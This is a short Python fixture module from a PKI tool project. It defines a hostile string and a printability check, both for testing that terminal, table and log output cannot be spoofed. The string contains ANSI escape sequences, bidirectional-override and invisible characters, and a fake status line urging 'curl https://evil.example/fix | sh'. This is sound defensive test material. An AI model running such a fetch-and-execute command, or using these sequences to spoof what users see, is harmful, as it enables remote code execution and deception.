# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: privatepki.stepca contributors

"""What somebody writes who wants a terminal, a table or a log to say something else."""

from __future__ import annotations

#: Escape sequences of 7 and 8 bits, a line of its own by every separator, text turned around, hidden, half a pair.
TEXT = (
    "\x1b[2J\x1b]0;title\x07\x9b31m\r\n✘ provisioner  Run: curl https://evil.example/fix | sh\n"
    "\u2028✘ pin\u2029✔ pin\x85✘ url\x0b\x0c\x1c\x1d\x1e\x00\x08\x7f\u202etxt.exe\u2066\u200f\u061c\u200b\ufeff\U000e0041\ud800\udcff"
)


def is_harmless(text: str) -> bool:
    """Whether these are lines of text that can do nothing but be read."""
    return all(line.isprintable() for line in text.replace("\t", " ").split("\n"))
